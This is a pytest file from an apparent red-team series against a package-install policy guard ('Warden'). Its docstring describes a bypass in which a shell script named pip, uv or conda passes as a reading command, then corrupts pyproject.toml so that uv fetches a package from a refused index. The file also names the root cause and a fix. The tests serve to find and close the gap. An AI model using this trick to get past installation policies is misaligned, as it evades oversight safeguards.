"""Red team 56c R56c-5: a "reader" that is only named like an installer. The cell writes a
shell script ``bin/pip`` (or ``bin/uv``, ``bin/conda``) in its folder and runs
``/abs/bin/pip list ; uv pip install --index-url REFUSED P`` (also ``env PATH=/abs/bin:/usr/bin
pip list``). Warden reads ``pip list`` from the program's name and words: a reading command,
no writer, so the later uv install is decided with the pyproject.toml as it is before the line
(``[tool.uv.pip] no-index``, ``find-links``: local wheels only, allowed). The script appends to
that pyproject.toml; uv cannot parse it any more, drops those settings and fetches P from the
line's index, a host the policy refuses. Any program named pip/uv/conda passes, a shell script
too (no guard of a Python child ever sees it).

Root cause: commands._may_write/_plain_install (commands.py:2100-2128) and
installer_writes.writes_nothing (installs/installer_writes.py:76-97) take an invocation's
``tool`` (its program's name) as the installer it names, and its words as that installer's
reading command; nothing asks whether the program is an installer the machine had before the
kernel started (as uv's interpreter discovery is asked: "not a Python the machine had before
the kernel started"). Fix: a reader only when its program resolves to an installer file that
was there before the kernel started and was not changed since (else a writer). FAILS today.
"""

import sys

import pytest
from launched import PYPROJECT_INSTALL as UV
from launched import local_pyproject_cell

PY = sys.executable
SCRIPT = "#!/bin/sh\necho 'garbage [[[' >> pyproject.toml\n"


def _cell(kernel, name: str, reader: str) -> str:
    program = kernel.work / "bin" / name
    line = f"{reader} ; {UV}" if reader else UV
    code = (
        (
            local_pyproject_cell(kernel) + "os.makedirs('bin', exist_ok=True)\n"
            f"open({str(program)!r}, 'w').write({SCRIPT!r})\n"
            f"os.chmod({str(program)!r}, 0o755)\n"
        )
        .replace("{", "{{")
        .replace("}", "}}")
    )
    return code + f"os.system({line!r})\n"


def test_control_a_script_not_named_like_an_installer_is_a_writer(kernel):
    code = _cell(kernel, "lister", f"{kernel.work}/bin/lister list")
    assert kernel.kept_out(code)["refused"]


@pytest.mark.parametrize(
    "name, reader",
    [
        ("pip", "{W}/bin/pip list"),
        ("pip", "env PATH={W}/bin:/usr/bin:/bin pip list"),
        ("pip3", "{W}/bin/pip3 freeze"),
        ("uv", "{W}/bin/uv pip list"),
        ("conda", "{W}/bin/conda list"),
    ],
)
def test_a_program_named_like_an_installer_reader_is_a_writer(kernel, name, reader):
    kernel.kept_from_refused_host(_cell(kernel, name, reader.replace("{W}", str(kernel.work))))
